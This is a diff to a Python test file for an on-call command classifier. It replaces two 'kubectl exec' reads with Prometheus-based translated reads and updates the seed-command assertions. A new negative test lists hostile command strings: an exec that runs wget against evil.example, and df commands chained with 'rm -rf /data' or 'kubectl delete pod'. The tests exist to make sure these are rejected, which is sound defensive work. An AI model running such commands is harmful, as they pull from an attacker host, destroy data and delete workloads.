@@ -50,6 +50,17 @@ def _translated(read: LiveRead, via: str | None) -> LiveRead:
     return replace(read, translated=True, note=note)
 
 
+def prometheus(command: str, read: str, target: str, pattern: str) -> LiveRead:
+    note = {
+        "volume-usage": f"reads the volumes of {target} from the kubelet's volume metrics in Prometheus "
+        "(kubelet_volume_stats_*) instead of running df inside the pod",
+        "target-health": f"asks Prometheus how its last scrape of {target}'s metrics went (/api/v1/targets) "
+        "instead of fetching them from inside the pod",
+    }[read]
+    params = ReadParams(namespace=NS, name=target, pattern=pattern)
+    return LiveRead("prometheus", read, params, command, translated=True, note=note)  # type: ignore[arg-type]
+
+
 def execs(command: str, program: str, target: str) -> Mutating:
     return Mutating(command, f"kubectl exec runs `{program}` inside {target}; oncall never execs into pods")
 
@@ -115,7 +126,8 @@ SEED_TABLE: list[Classified] = [
     sql(C[12], C[12].removesuffix(";")),
     sql(C[13], C[13].removesuffix(";")),
     kube("pvcs", C[14], namespace=NS, selector="app=inmidst-postgres"),
-    execs(C[15], "df", "deploy/inmidst-postgres"),  # oncall never execs, even for a read like df
+    # oncall never execs: what df and wget would tell, Prometheus already knows
+    prometheus(C[15], "volume-usage", "deploy/inmidst-postgres", "/var/lib/postgresql/data"),
     kube(
         "describe-pods",
         C[16],
@@ -135,7 +147,12 @@ SEED_TABLE: list[Classified] = [
     redis("info", C[26], section="keyspace"),
     kube("network-policies", C[27], namespace=NS),
     kube("services", C[28], namespace=NS),
-    execs(C[29], "wget", "deploy/inmidst-api"),  # `| head` runs locally; the exec is what matters
+    replace(
+        prometheus(C[29], "target-health", "deploy/inmidst-api", "http://localhost:3001/metrics"),
+        params=ReadParams(
+            namespace=NS, name="deploy/inmidst-api", pattern="http://localhost:3001/metrics", limit=10
+        ),
+    ),
 ]
 
 
@@ -159,14 +176,26 @@ def test_seed_command(command: str, expected: Classified) -> None:
     assert classify(command) == expected
 
 
-def test_the_seed_runbook_only_reads_except_two_execs_oncall_never_runs() -> None:
+def test_every_seed_command_is_a_live_or_translated_read() -> None:
     results = [classify(command) for command in C]
 
     live = [r for r in results if isinstance(r, LiveRead)]
-    assert len(live) == 28
-    assert [r.command for r in live if r.translated] == [C[2], C[3]]
-    assert [r.command for r in results if isinstance(r, Mutating)] == [C[15], C[29]]
-    assert not [r for r in results if isinstance(r, Unknown)]
+    assert len(live) == 30
+    # the execs: psql and redis-cli through oncall's own connections, df and wget through Prometheus
+    assert [r.command for r in live if r.translated] == [C[2], C[3], C[15], C[29]]
+    assert not [r for r in results if isinstance(r, Mutating | Unknown)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl exec deploy/inmidst-api -- wget -qO- http://evil.example/x",  # not a metrics endpoint
+        "kubectl exec deploy/inmidst-postgres -- df -h /data && rm -rf /data",
+        "kubectl exec deploy/inmidst-postgres -- df --output=used /data; kubectl delete pod x",
+    ],
+)
+def test_only_the_reads_prometheus_already_has_are_translated(command: str) -> None:
+    assert not isinstance(classify(command), LiveRead)  # never run: mutating, or copy-only
 
 
 def test_every_live_seed_read_passes_the_probe_guards() -> None:
